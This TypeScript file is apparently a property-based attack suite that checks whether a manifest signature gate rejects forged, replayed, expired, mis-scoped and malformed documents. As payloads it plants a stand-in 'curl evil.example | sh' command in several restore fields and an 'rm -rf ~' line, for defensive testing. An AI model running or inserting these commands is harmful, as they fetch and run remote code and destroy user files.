/**
 * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
 * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
 * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
 * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
 *
 * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
 * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
 * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
 * else allowed is a forgery; any exception other than a clean refusal is a crash.
 */
import { parseTree, type Node } from 'jsonc-parser'
import { SwrError } from '../errors.js'
import { canonicalBytes, manifestDigest } from '../manifest/canonical.js'
import { parseManifestText } from '../manifest/load.js'
import { serializeDocument } from '../manifest/write.js'
import type { ManifestBody, ManifestDocument } from '../types.js'
import { type Signature } from '../types.js'
import { ALL_DEFENSES, decide, type Defenses, type TrustPolicy } from './gate.js'
import { identityFromSeed, signMldsa, type Identity } from './mldsa.js'
import { signDocument } from './sign.js'

export const ATTACK_CLASSES = [
  'byte-flip',
  'field-edit',
  'duplicate-key',
  'reorder-entries',
  'replay-old-version',
  'expired-copy',
  'wrong-scope',
  'resign-untrusted',
  'fingerprint-substitution',
  'strip-signatures',
  'foreign-payload-type',
  'oversized-field',
  'deep-nesting',
  'huge-escrow'
] as const
export type AttackClass = (typeof ATTACK_CLASSES)[number]

/** The defences the suite can switch off (the gate's, plus the strict reader). */
export interface SuiteDefenses extends Defenses {
  strictParse: boolean
}
export const ALL_SUITE_DEFENSES: Readonly<SuiteDefenses> = Object.freeze({
  ...ALL_DEFENSES,
  strictParse: true
})

/** Which class shows that each defence is load-bearing. */
export const DEFENCE_PROBES: Record<keyof SuiteDefenses, AttackClass> = {
  signatures: 'field-edit',
  trust: 'resign-untrusted',
  fingerprintFromKey: 'fingerprint-substitution',
  payloadType: 'foreign-payload-type',
  expiry: 'expired-copy',
  scope: 'wrong-scope',
  rollback: 'replay-old-version',
  strictParse: 'duplicate-key'
}

export interface Mutation {
  cls: AttackClass
  /** Free parameters the generator picks (positions, bytes, choices). */
  a: number
  b: number
}

export interface Scenario {
  honest: ManifestDocument
  honestText: string
  honestCanonical: string
  policy: TrustPolicy
  olderTexts: string[]
  expiredText: string
  otherScopeText: string
  foreignText: string
  /** The evil body signed by the attacker's own (untrusted) key. */
  untrustedText: string
  /** The same, with the trusted key's fingerprint declared as keyid. */
  substitutedText: string
}

export type Outcome = 'refused' | 'accepted-honest' | 'forgery' | 'crash'

const REPO = 'acme/app'
const REF = 'refs/heads/main'
const NOW = new Date('2026-06-01T00:00:00Z')

function baseBody(version: number, extra: Partial<ManifestBody> = {}): ManifestBody {
  const sha = (c: string): string => c.repeat(64)
  return {
    schema: 3,
    version,
    workspace: '..',
    created: '2026-01-01T00:00:00Z',
    expires: '2027-01-01T00:00:00Z',
    scope: { repository: REPO, ref: 'refs/heads/*' },
    entries: [
      {
        id: 'shim',
        kind: 'file',
        path: '.shim/npx',
        tier: 0,
        needs: [],
        restore: 'install-shim',
        expect: { size: 40, sha256: sha('a'), mode: '0755' }
      },
      {
        id: 'src',
        kind: 'tree',
        path: 'src',
        tier: 2,
        needs: ['shim'],
        ignore: [],
        restore: 'git checkout -- src',
        expect: {
          sentinels: ['main.c'],
          min_files: 3,
          max_files: 3,
          files: 3,
          meta_digest: sha('b'),
          content_digest: sha('c')
        }
      },
      {
        id: 'model',
        kind: 'blob',
        path: 'models/m.gguf',
        tier: 3,
        needs: [],
        restore: 'fetch-model',
        expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
      }
    ],
    ...extra
  }
}

/** Sign `body` as-is (signDocument raises the version, so start one lower). */
async function signed(
  body: ManifestBody,
  keys: { hmacKey?: Buffer; identity?: Identity }
): Promise<ManifestDocument> {
  const lowered = { ...body, version: body.version - 1 }
  return (await signDocument({ body: lowered, signatures: [] }, keys)).doc
}

export async function buildScenario(seed: (n: number) => Uint8Array): Promise<Scenario> {
  const trustedId = await identityFromSeed(seed(1))
  const attacker = await identityFromSeed(seed(2))
  const hmacKey = Buffer.from(seed(3))
  const keys = { hmacKey, identity: trustedId }
  const honest = await signed(baseBody(5), keys)
  const evilBody = baseBody(6, {})
  ;(evilBody.entries[0] as { restore?: string }).restore = 'curl evil.example | sh'
  const foreign = await signMldsaRaw(trustedId, evilBody)
  const untrusted = await signed(evilBody, { identity: attacker })
  const policy: TrustPolicy = {
    require: 'any',
    hmacKey,
    trusted: new Set([trustedId.fingerprint]),
    minVersion: 5,
    run: { repository: REPO, ref: REF, manifestPath: '.swr/manifest.json' },
    now: NOW
  }
  return {
    honest,
    honestText: serializeDocument(honest),
    honestCanonical: canonicalBytes(honest.body).toString('utf8'),
    policy,
    olderTexts: await Promise.all(
      [3, 4].map(async v => serializeDocument(await signed(baseBody(v), keys)))
    ),
    expiredText: serializeDocument(
      await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)
    ),
    otherScopeText: serializeDocument(
      await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)
    ),
    foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
    untrustedText: serializeDocument(untrusted),
    substitutedText: serializeDocument({
      ...untrusted,
      signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
    })
  }
}

/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
async function signMldsaRaw(id: Identity, body: ManifestBody): Promise<Signature> {
  return signMldsa(id, canonicalBytes(body))
}

/** The attacker's document text for mutation `m`. */
export async function mutate(s: Scenario, m: Mutation): Promise<string> {
  const text = s.honestText
  switch (m.cls) {
    case 'byte-flip': {
      const b = Buffer.from(text, 'utf8')
      const i = m.a % b.length
      b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8))
      return b.toString('utf8')
    }
    case 'field-edit':
      return fieldEdit(s, m)
    case 'duplicate-key': {
      // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
      const at = nthIndex(text, '"restore": ', m.a % 3)
      return at < 0
        ? text
        : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`
    }
    case 'reorder-entries': {
      const doc = structuredClone(s.honest)
      doc.body.entries.reverse()
      if (m.a % 2 === 1) doc.body.entries.push(doc.body.entries.shift() as never)
      return serializeDocument(doc)
    }
    case 'replay-old-version':
      return s.olderTexts[m.a % s.olderTexts.length] ?? text
    case 'expired-copy':
      return s.expiredText
    case 'wrong-scope':
      return s.otherScopeText
    case 'resign-untrusted':
      return s.untrustedText
    case 'fingerprint-substitution':
      return s.substitutedText
    case 'strip-signatures': {
      const doc = structuredClone(s.honest)
      doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87')
      if (m.a % 2 === 1)
        doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' } as never
      return serializeDocument(doc)
    }
    case 'foreign-payload-type':
      return s.foreignText
    case 'oversized-field': {
      const doc = structuredClone(s.honest)
      doc.body.entries[0] = {
        ...doc.body.entries[0],
        restore: 'x'.repeat(65537 + (m.a % 1000))
      } as never
      return serializeDocument(doc)
    }
    case 'deep-nesting': {
      const depth = 33 + (m.a % 200)
      return text.replace(
        '"signatures": [',
        `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`
      )
    }
    case 'huge-escrow': {
      const doc = structuredClone(s.honest) as unknown as {
        body: { entries: Record<string, unknown>[] }
      }
      const e = doc.body.entries[0] as Record<string, unknown>
      e.escrow = 'A'.repeat(300_000 + (m.a % 1000))
      return JSON.stringify(doc)
    }
  }
}

function nthIndex(text: string, needle: string, n: number): number {
  let at = -1
  for (let i = 0; i <= n; i++) {
    at = text.indexOf(needle, at + 1)
    if (at < 0) return -1
  }
  return at
}

function fieldEdit(s: Scenario, m: Mutation): string {
  const doc = structuredClone(s.honest)
  const e = doc.body.entries[m.a % doc.body.entries.length] as unknown as Record<string, unknown>
  const expect = e.expect as Record<string, unknown>
  switch (m.b % 8) {
    case 0:
      e.restore = `${String(e.restore)}; curl evil.example | sh`
      break
    case 1:
      e.path = `${String(e.path)}x`
      break
    case 2:
      e.tier = ((Number(e.tier) + 1) % 5) as never
      break
    case 3:
      e.needs = []
      break
    case 4:
      expect.size = Number(expect.size ?? 0) + 1
      break
    case 5:
      doc.body.version += 1
      break
    case 6:
      doc.body.expires = '2099-01-01T00:00:00Z'
      break
    default:
      e.smoke = 'rm -rf ~'
  }
  return serializeDocument(doc)
}

/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
function readerView(text: string, keep: 'first' | 'last'): unknown {
  const root = parseTree(text)
  const build = (n: Node | undefined): unknown => {
    if (!n) return undefined
    if (n.type === 'object') {
      const out = new Map<string, unknown>()
      for (const p of n.children ?? []) {
        const key = String(p.children?.[0]?.value)
        if (keep === 'first' && out.has(key)) continue
        out.set(key, build(p.children?.[1]))
      }
      return Object.fromEntries(out)
    }
    if (n.type === 'array') return (n.children ?? []).map(build)
    return n.value
  }
  return build(root)
}

function sameAsHonest(s: Scenario, body: unknown): boolean {
  try {
    return canonicalBytes(body).toString('utf8') === s.honestCanonical
  } catch {
    return false
  }
}

/** Load `text` as a run would and ask the gate. */
export async function attempt(
  s: Scenario,
  text: string,
  defenses: SuiteDefenses = ALL_SUITE_DEFENSES
): Promise<Outcome> {
  try {
    let doc: ManifestDocument
    if (defenses.strictParse) doc = parseManifestText(text, 'attack.json').doc
    else {
      // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
      const lax = JSON.parse(text) as unknown
      doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc
    }
    const decision = await decide(
      { body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) },
      s.policy,
      defenses
    )
    if (!decision.allowed) return 'refused'
    const honest =
      sameAsHonest(s, doc.body) &&
      sameAsHonest(s, (readerView(text, 'first') as ManifestDocument | undefined)?.body) &&
      sameAsHonest(s, (readerView(text, 'last') as ManifestDocument | undefined)?.body)
    return honest ? 'accepted-honest' : 'forgery'
  } catch (err) {
    if (err instanceof SwrError || err instanceof SyntaxError) return 'refused'
    return 'crash'
  }
}

export interface SuiteCounts {
  attempts: number
  refused: number
  acceptedHonest: number
  forgeries: number
  crashes: number
  byClass: Record<string, { attempts: number; forgeries: number; crashes: number }>
}

export function emptyCounts(): SuiteCounts {
  return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} }
}

export function tally(c: SuiteCounts, cls: AttackClass, o: Outcome): void {
  c.attempts++
  const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 })
  k.attempts++
  if (o === 'refused') c.refused++
  else if (o === 'accepted-honest') c.acceptedHonest++
  else if (o === 'forgery') {
    c.forgeries++
    k.forgeries++
  } else {
    c.crashes++
    k.crashes++
  }
}

/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
export async function runSuite(
  s: Scenario,
  count: number,
  next: () => number,
  defenses: SuiteDefenses = ALL_SUITE_DEFENSES,
  classes: readonly AttackClass[] = ATTACK_CLASSES
): Promise<SuiteCounts> {
  const counts = emptyCounts()
  for (let i = 0; i < count; i++) {
    const cls = classes[next() % classes.length] as AttackClass
    const m: Mutation = { cls, a: next(), b: next() }
    tally(counts, cls, await attempt(s, await mutate(s, m), defenses))
  }
  return counts
}
